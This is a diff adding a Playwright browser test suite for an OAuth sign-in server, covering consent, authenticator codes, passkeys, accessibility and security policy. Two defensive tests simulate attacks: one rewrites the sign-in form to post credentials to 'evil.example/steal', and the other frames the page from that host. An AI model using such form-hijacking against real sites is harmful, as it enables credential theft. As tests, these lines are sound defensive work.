@@ -1,0 +1,410 @@
+import assert from 'node:assert/strict';
+import { mkdir } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { join, resolve } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { z } from 'zod';
+import { ACR_PHISHING_RESISTANT } from '../src/user-authentication/authentication-context.ts';
+import { totpCode, totpStep } from '../src/user-authentication/totp.ts';
+import { type AuthorizationServer, startAuthorizationServer } from './authorization-server.ts';
+import { startChromium, whyNoChromium } from './chromium.ts';
+
+const SCREENSHOTS = resolve(import.meta.dirname, '../../../screenshots');
+const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
+const PASSWORD = 'correct horse battery staple';
+
+const LOOKS = [
+  { name: 'desktop-light', viewport: { width: 1440, height: 900 }, colorScheme: 'light' },
+  { name: 'desktop-dark', viewport: { width: 1440, height: 900 }, colorScheme: 'dark' },
+  { name: 'phone-light', viewport: { width: 390, height: 844 }, colorScheme: 'light' },
+  { name: 'phone-dark', viewport: { width: 390, height: 844 }, colorScheme: 'dark' },
+] as const;
+
+const Violations = z.array(
+  z.object({
+    id: z.string(),
+    impact: z.string().nullish(),
+    help: z.string(),
+    nodes: z.array(z.object({ html: z.string(), failureSummary: z.string().optional() })),
+  }),
+);
+
+describe('the pages in Chromium', { skip: whyNoChromium(), timeout: 240_000 }, () => {
+  let server: AuthorizationServer;
+  let browser: Browser;
+  const shown = new Set<string>();
+
+  before(async () => {
+    server = await startAuthorizationServer({ sign_in: { client_certificate: true } });
+    browser = await startChromium();
+    await mkdir(SCREENSHOTS, { recursive: true });
+  });
+  after(async () => {
+    await browser?.close();
+    await server?.close();
+  });
+
+  /** Looks at the page as it is, in every size and mode, and has axe look for barriers. */
+  async function look(page: Page, name: string): Promise<void> {
+    shown.add(name);
+    for (const { name: style, viewport, colorScheme } of LOOKS) {
+      await page.setViewportSize(viewport);
+      await page.emulateMedia({ colorScheme });
+      await page.screenshot({ path: join(SCREENSHOTS, `${name}-${style}.png`), fullPage: true });
+      const overflow = await page.evaluate<number>(
+        'document.documentElement.scrollWidth - document.documentElement.clientWidth',
+      );
+      assert.equal(overflow, 0, `${name} is wider than a ${style} screen`);
+      await page.addScriptTag({ path: AXE }).catch(() => {});
+      const found = Violations.parse(
+        await page.evaluate(
+          'axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) => JSON.parse(JSON.stringify(violations)))',
+        ),
+      );
+      assert.deepEqual(
+        found.map(({ id, impact, nodes }) => ({
+          id,
+          impact,
+          nodes: nodes.map((node) => node.failureSummary),
+        })),
+        [],
+        `${name}, ${style}`,
+      );
+    }
+  }
+
+  /** A person's browser. `bypassCSP` lets axe in; pages under a test of their policy are opened without it. */
+  const openBrowser = (
+    options: { readonly scripts?: false; readonly csp?: true } = {},
+  ): Promise<BrowserContext> =>
+    browser.newContext({
+      ignoreHTTPSErrors: true,
+      bypassCSP: !options.csp,
+      locale: 'en-GB',
+      javaScriptEnabled: options.scripts !== false,
+    });
+
+  const person = async () => (await server.browser()).user;
+
+  async function signIn(page: Page, username: string, password = PASSWORD): Promise<void> {
+    await page.getByLabel('Username').fill(username);
+    await page.getByLabel('Password').fill(password);
+    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+  }
+
+  const authorizationUrl = (client: { client_id: string; redirect_uri: string }, more = {}) =>
+    `${server.issuer}/oauth2/authorize?${new URLSearchParams({
+      client_id: client.client_id,
+      redirect_uri: client.redirect_uri,
+      response_type: 'code',
+      scope: 'openid profile email offline_access orders',
+      state: 'xyz',
+      nonce: 'n',
+      ...more,
+    })}`;
+
+  const register = () =>
+    server.register({
+      client_name: 'Orchard Orders',
+      scope: 'openid profile email offline_access orders',
+      grant_types: ['authorization_code', 'refresh_token'],
+      redirect_uris: ['http://localhost:8080/playground2/oauth2client'],
+      client_uri: 'https://orchard.example',
+      policy_uri: 'https://orchard.example/privacy',
+      tos_uri: 'https://orchard.example/terms',
+    });
+
+  /** Answers for the client, so that the browser arrives somewhere. */
+  const answerCallback = async (context: BrowserContext) => {
+    await context.route('http://localhost:8080/**', (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Back</title><h1>Back</h1>' }),
+    );
+  };
+
+  test('sign-in, consent and back to the application', async () => {
+    const client = await register();
+    const user = await person();
+    const context = await openBrowser();
+    await answerCallback(context);
+    const page = await context.newPage();
+    await page.goto(authorizationUrl(client));
+    await look(page, 'sign-in');
+    await signIn(page, user.username, 'wrong');
+    await look(page, 'sign-in-problem');
+    assert.equal(await page.evaluate('document.activeElement.getAttribute("role")'), 'alert');
+    await signIn(page, user.username);
+    await look(page, 'consent');
+    await page.getByRole('button', { name: 'Allow' }).click();
+    await page.waitForURL('http://localhost:8080/**');
+    const callback = new URL(page.url());
+    assert.equal(callback.searchParams.get('state'), 'xyz');
+    assert(callback.searchParams.get('code'));
+    await context.close();
+  });
+
+  /** Reads a secret off the page and counts as the app would. */
+  const codeOf = (secret: string, offset = 0) =>
+    totpCode(secret.replaceAll(' ', ''), totpStep(Date.now()) + offset);
+
+  test('the account: authenticator app, recovery codes, passwords, applications, sessions', async () => {
+    const client = await register();
+    const user = await person();
+    await server.opened.storage.consents.put({
+      sub: user.sub,
+      client_id: client.client_id,
+      scopes: ['openid', 'email', 'orders'],
+      granted_at: Date.now(),
+    });
+    const elsewhere = await openBrowser();
+    const other = await elsewhere.newPage();
+    await other.goto(`${server.issuer}/account`);
+    await signIn(other, user.username);
+
+    const context = await openBrowser();
+    const page = await context.newPage();
+    await page.goto(`${server.issuer}/account`);
+    await signIn(page, user.username);
+    await look(page, 'account');
+
+    await page.getByRole('link', { name: 'Set up authenticator app' }).click();
+    await look(page, 'authenticator');
+    const secret = (await page.locator('.secret').textContent()) ?? '';
+    await page.getByLabel('Code that the app shows').fill('000000');
+    await page.getByRole('button', { name: 'Confirm' }).click();
+    await look(page, 'authenticator-problem');
+    assert.equal(await page.locator('.secret').textContent(), secret);
+    await page.getByLabel('Code that the app shows').fill(codeOf(secret, -1));
+    await page.getByRole('button', { name: 'Confirm' }).click();
+    await look(page, 'recovery-codes');
+    const recovery = (await page.locator('.codes li').first().textContent()) ?? '';
+    await page.getByRole('link', { name: 'I have kept them' }).click();
+    await look(page, 'account-protected');
+
+    await page.getByRole('link', { name: 'Change password' }).click();
+    await look(page, 'password');
+    await page.getByLabel('Current password').fill(PASSWORD);
+    await page.getByLabel('New password', { exact: true }).fill('short');
+    await page.getByLabel('New password again').fill('short');
+    await page.getByRole('button', { name: 'Change password' }).click();
+    await look(page, 'password-problem');
+    const changed = 'a lighthouse full of plums';
+    await page.getByLabel('Current password').fill(PASSWORD);
+    await page.getByLabel('New password', { exact: true }).fill(changed);
+    await page.getByLabel('New password again').fill(changed);
+    await page.getByRole('button', { name: 'Change password' }).click();
+    await look(page, 'account-notice');
+    await other.reload();
+    assert.match(other.url(), /\/oauth2\/sign-in$/);
+    await elsewhere.close();
+
+    await page.getByRole('link', { name: 'Sign out' }).click();
+    await look(page, 'sign-out');
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await look(page, 'signed-out');
+
+    await page.getByRole('link', { name: 'Sign in again' }).click();
+    await signIn(page, user.username, changed);
+    await look(page, 'second-factor');
+    await page.getByLabel('Code').fill('123456');
+    await page.getByRole('button', { name: 'Confirm' }).click();
+    await look(page, 'second-factor-problem');
+    await page.getByLabel('Code').fill(recovery);
+    await page.getByRole('button', { name: 'Confirm' }).click();
+    await page.getByRole('heading', { name: 'Your account' }).waitFor();
+    assert(await page.getByText('9 left').isVisible());
+    await page.getByRole('button', { name: 'Revoke the access of Orchard Orders' }).click();
+    assert(await page.getByText('The application has no access any more.').isVisible());
+    assert.equal(await server.opened.storage.consents.find(user.sub, client.client_id), undefined);
+    await context.close();
+  });
+
+  test('a passkey, from its registration to a sign-in that nobody can phish', async () => {
+    const user = await person();
+    const context = await openBrowser();
+    const page = await context.newPage();
+    const devtools = await context.newCDPSession(page);
+    await devtools.send('WebAuthn.enable');
+    await devtools.send('WebAuthn.addVirtualAuthenticator', {
+      options: {
+        protocol: 'ctap2',
+        transport: 'internal',
+        hasResidentKey: true,
+        hasUserVerification: true,
+        isUserVerified: true,
+        automaticPresenceSimulation: true,
+      },
+    });
+    await page.goto(`${server.issuer}/account`);
+    await signIn(page, user.username);
+    await page.getByRole('link', { name: 'Add a passkey' }).click();
+    await look(page, 'passkey');
+    await page.getByLabel('Name').fill('Blue security key');
+    await page.getByRole('button', { name: 'Add a passkey' }).click();
+    await page.getByRole('link', { name: 'I have kept them' }).click();
+    assert(await page.getByText('Blue security key').isVisible());
+    await look(page, 'account-passkey');
+
+    await page.goto(`${server.issuer}/oidc/logout`);
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await page.getByRole('link', { name: 'Sign in again' }).click();
+    await signIn(page, user.username);
+    await page.getByRole('button', { name: 'Use a passkey' }).waitFor();
+    await look(page, 'second-factor-passkey');
+    await page.getByRole('button', { name: 'Use a passkey' }).click();
+    await page.getByRole('heading', { name: 'Your account' }).waitFor();
+    const { items } = await server.opened.storage.sessions.list({ sub: user.sub }, { limit: 10 }, Date.now());
+    assert.deepEqual(
+      items.map(({ amr, acr }) => ({ amr, acr })),
+      [{ amr: ['pwd', 'pop', 'mfa'], acr: ACR_PHISHING_RESISTANT }],
+    );
+    await context.close();
+  });
+
+  test('a passkey of another account is refused, and the page says so', async () => {
+    const user = await person();
+    const context = await openBrowser();
+    const page = await context.newPage();
+    const devtools = await context.newCDPSession(page);
+    await devtools.send('WebAuthn.enable');
+    await page.goto(`${server.issuer}/account`);
+    await signIn(page, user.username);
+    await server.opened.storage.credentials.insert({
+      kind: 'passkey',
+      credential_id: 'bm90LXRoZXJl',
+      sub: user.sub,
+      created_at: Date.now(),
+      public_key: 'pQ',
+      counter: 0,
+      transports: ['internal'],
+      label: 'Lost',
+    });
+    await page.goto(`${server.issuer}/oidc/logout`);
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await page.goto(`${server.issuer}/oauth2/sign-in`);
+    await signIn(page, user.username);
+    await devtools.send('WebAuthn.addVirtualAuthenticator', {
+      options: {
+        protocol: 'ctap2',
+        transport: 'internal',
+        hasResidentKey: true,
+        hasUserVerification: true,
+        isUserVerified: true,
+        automaticPresenceSimulation: true,
+      },
+    });
+    await page.getByRole('button', { name: 'Use a passkey' }).click();
+    await page.getByText('The passkey was not accepted.').waitFor();
+    await context.close();
+  });
+
+  test('errors, in English and in the language of the person', async () => {
+    const context = await openBrowser();
+    const page = await context.newPage();
+    await page.goto(`${server.issuer}/oauth2/authorize?client_id=nobody`);
+    await look(page, 'error');
+    await page.goto(`${server.issuer}/oauth2/sign-in?request=over`);
+    await look(page, 'sign-in-over');
+    const client = await register();
+    for (const language of ['de', 'pt']) {
+      await page.goto(authorizationUrl(client, { ui_locales: language }));
+      assert.equal(await page.locator('html').getAttribute('lang'), language);
+      await look(page, `sign-in-${language}`);
+    }
+    await context.close();
+  });
+
+  test('under its policy and without JavaScript, the way to the application is open and no page breaks a rule', async () => {
+    const client = await register();
+    const user = await person();
+    for (const scripts of [undefined, false] as const) {
+      const context = await openBrowser({ csp: true, ...(scripts === false && { scripts }) });
+      await answerCallback(context);
+      const page = await context.newPage();
+      const complaints: string[] = [];
+      page.on('console', (message) => {
+        if (message.type() === 'error' || /Content.Security.Policy/i.test(message.text())) {
+          complaints.push(`${page.url()}: ${message.text()}`);
+        }
+      });
+      await page.goto(authorizationUrl(client, { prompt: 'consent' }));
+      await signIn(page, user.username);
+      await page.getByRole('button', { name: 'Allow' }).click();
+      await page.waitForURL('http://localhost:8080/**');
+      await page.goto(authorizationUrl(client, { prompt: 'login' }));
+      await page.getByRole('button', { name: 'Cancel' }).click();
+      await page.waitForURL(/error=access_denied/);
+      await page.goto(`${server.issuer}/account`);
+      await page.getByRole('link', { name: 'Sign out' }).click();
+      await page.getByRole('button', { name: 'Sign out' }).click();
+      await page.getByRole('heading', { name: 'You are signed out' }).waitFor();
+      assert.deepEqual(
+        complaints.filter((complaint) => !complaint.startsWith('http://localhost:8080')),
+        [],
+      );
+      await context.close();
+    }
+  });
+
+  test('a form cannot be sent anywhere else, whatever were smuggled into the page', async () => {
+    const client = await register();
+    const context = await openBrowser({ csp: true });
+    const page = await context.newPage();
+    const requests: string[] = [];
+    await context.route('https://evil.example/**', (route) => {
+      requests.push(route.request().url());
+      return route.fulfill({ body: 'stolen' });
+    });
+    await page.goto(authorizationUrl(client));
+    await page.evaluate('document.forms[0].action = "https://evil.example/steal"');
+    await page.getByLabel('Username').fill('anna');
+    await page.getByLabel('Password').fill('secret');
+    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+    await page.waitForTimeout(500);
+    assert.deepEqual(requests, []);
+    await context.close();
+  });
+
+  test('no page is shown in a frame', async () => {
+    const context = await openBrowser({ csp: true });
+    const page = await context.newPage();
+    await context.route('https://evil.example/', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<!doctype html><title>Prize</title><iframe src="${server.issuer}/oauth2/sign-in"></iframe>`,
+      }),
+    );
+    await page.goto('https://evil.example/');
+    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
+    assert(frame);
+    assert.equal(await frame.getByLabel('Password').count(), 0);
+    await context.close();
+  });
+
+  test('every page was looked at', () => {
+    assert.deepEqual([...shown].toSorted(), [
+      'account',
+      'account-notice',
+      'account-passkey',
+      'account-protected',
+      'authenticator',
+      'authenticator-problem',
+      'consent',
+      'error',
+      'passkey',
+      'password',
+      'password-problem',
+      'recovery-codes',
+      'second-factor',
+      'second-factor-passkey',
+      'second-factor-problem',
+      'sign-in',
+      'sign-in-de',
+      'sign-in-over',
+      'sign-in-problem',
+      'sign-in-pt',
+      'sign-out',
+      'signed-out',
+    ]);
+  });
+});
